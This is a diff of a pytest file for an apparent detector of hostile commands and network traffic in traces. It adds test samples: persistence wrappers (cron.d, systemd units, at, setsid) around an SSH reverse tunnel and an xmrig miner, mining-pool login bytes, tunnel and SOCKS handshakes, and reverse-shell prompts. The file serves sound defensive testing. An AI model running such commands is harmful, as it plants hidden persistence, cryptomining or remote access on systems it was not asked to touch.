@@ -31,7 +31,19 @@ def test_disguises_are_found(line: dict[str, str]) -> None:
 
 
 @pytest.mark.parametrize(
-    "wrapped", ["sudo -n {}", "nohup {} &", "cd /tmp && {}", "timeout 60 {}", "true | {}", "X=1 setsid {}"]
+    "wrapped",
+    [
+        *("sudo -n {}", "nohup {} &", "cd /tmp && {}", "timeout 60 {}", "true | {}", "X=1 setsid {}", "env -S '{}'"),
+        *("find /tmp -exec {} \\;", "screen -dmS w {}", "tmux new-session -d '{}'", "kubectl exec pod -- {}"),
+        *("python3 -c \"import os; os.system('{}')\"", "echo '{}' > /tmp/run; sh /tmp/run", "alias w='{}'; w"),
+        *(
+            "bash <<'E'\n{}\nE",
+            "echo '* * * * * root {}' > /etc/cron.d/w",
+            "printf '%s\\n' '{}' | at now",
+            "w() {{ {}; }}; w",
+        ),
+        "cat > w.service <<E\n[Service]\nExecStart={}\nE",
+    ],
 )
 def test_wrappers_hide_nothing(wrapped: str) -> None:
     for command in ("ssh -NR 2222:localhost:22 u@h", "./xmrig -o pool.minexmr.com:4444", "nmap -sT 10.0.0.0/24"):
@@ -46,7 +58,23 @@ def test_ordinary_commands_are_left_alone(line: dict[str, str]) -> None:
 @pytest.mark.timeout(30)
 @pytest.mark.parametrize(
     "part",
-    ["a", "a=b;", "$(", "'", "for i in x; do ", "a.b.", "1.2.", "curl $( ", "<(", "eval ", "\\x41", "QUJD", "a://"],
+    [
+        "a",
+        "a=b;",
+        "$(",
+        "'",
+        "for i in x; do ",
+        "a.b.",
+        "1.2.",
+        "curl $( ",
+        "<(",
+        "eval ",
+        "\\x41",
+        "QUJD",
+        "a://",
+        "xargs nc ",
+        "tunnel ",
+    ],
 )
 def test_no_length_stops_it(part: str) -> None:
     # A tool writes its command lines itself: none may keep who judges them busy.
@@ -103,6 +131,31 @@ def test_arguments_are_read_as_ssh_reads_them(words: str, rule: str) -> None:
             "sent",
             "dns_tunnel",
         ),
+        (b"Welcome\r\nto all\r\nSSH-2.0-dropbear_2022.83\r\n", "received", "reverse_tunnel"),
+        (b'[ {"params" : [], "id":"a","method" :\t"mining.\\u0073ubscribe"}]', "sent", "mining"),
+        (b'{"method":"login","params":{"login":"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWz', "sent", "mining"),
+        (b"POST / HTTP/1.1\r\nX-Mining-Extensions: midstate\r\n\r\n", "sent", "mining"),
+        (b'POST / HTTP/1.1\r\n\r\n{"method":"getblocktemplate","params":[{}]}', "sent", "mining"),
+        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 \x00\x00\x18pool.supportxmr.com", "sent", "mining"),
+        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 \x00\x00\x18a.tunnel.bore.pub", "sent", "reverse_tunnel"),
+        (b"\x05\x01\x00\x05\x01\x00\x03\x0bexample.org\x01\xbb", "received", "reverse_tunnel"),
+        (b"\x04\x01\x01\xbb\xc0\x00\x02\x01\x00", "received", "reverse_tunnel"),
+        (b"CONNECT example.org:22 HTTP/1.1\r\n", "sent", "reverse_tunnel"),
+        (b"\x00\x01\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00", "sent", "reverse_tunnel"),
+        (b"\x17\x16\x03\x01\x00\xf1", "sent", "reverse_tunnel"),
+        (b"\x1b[01;32mroot@box\x1b[00m:\x1b[01;34m/work\x1b[00m# ", "sent", "reverse_shell"),
+        (b"PS /home/x> ", "sent", "reverse_shell"),
+        (b"CONNECT example.org:443 HTTP/1.1\r\n", "sent", None),
+        (b'{"method":"login","params":{"user":"a","password":"b"}}', "sent", None),
+        (b"*1\r\n$4\r\nPING\r\n", "sent", None),
+        (b"\x00\x00\x00\x08\x04\xd2\x16\x2f", "sent", None),
+        (b"\x00\x00\x00\x25\x00\x03\x00\x00user\x00a\x00\x00", "sent", None),
+        (b"J\x00\x00\x00\x0a8.0.36\x00\x0b\x00\x00\x00", "received", None),
+        (b"EHLO localhost\r\n", "sent", None),
+        (b"\x13BitTorrent protocol\x00\x00\x00\x00\x00\x10\x00\x05", "sent", None),
+        (b"003egit-upload-pack /x.git\x00host=h\x00", "sent", None),
+        (bytes(64), "sent", None),
+        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04\x00\x00\x00\x00\x00", "sent", None),
         (b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n", "sent", None),
         (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "sent", None),
         (b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}', "sent", None),
@@ -180,3 +233,18 @@ def test_a_file_that_is_no_rule_is_named(tmp_path: Path) -> None:
     path.write_text("detection: [")
     with pytest.raises(sigma.BadRule, match=r"x\.yml: no Sigma rule"):
         sigma.load([path])
+    path.write_text("just words")
+    with pytest.raises(sigma.BadRule, match="a YAML mapping with title, logsource and detection"):
+        sigma.load([path])
+    path.write_text(SIGMA.replace("linux", "windows"))
+    with pytest.raises(sigma.BadRule, match="no rule about processes of Linux"):
+        sigma.load([path])
+
+
+def test_traces_that_are_none_are_named(tmp_path: Path) -> None:
+    path = tmp_path / "rubbish.jsonl"
+    path.write_text('rubbish\n{"a": 1}\n')
+    command = [sys.executable, "-m", "ray_guard.cli.__main__", "detect", "--traces", str(path)]
+    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
+    assert (done.returncode, done.stdout) == (2, "")
+    assert f"{path}: no line of it is a span" in done.stderr
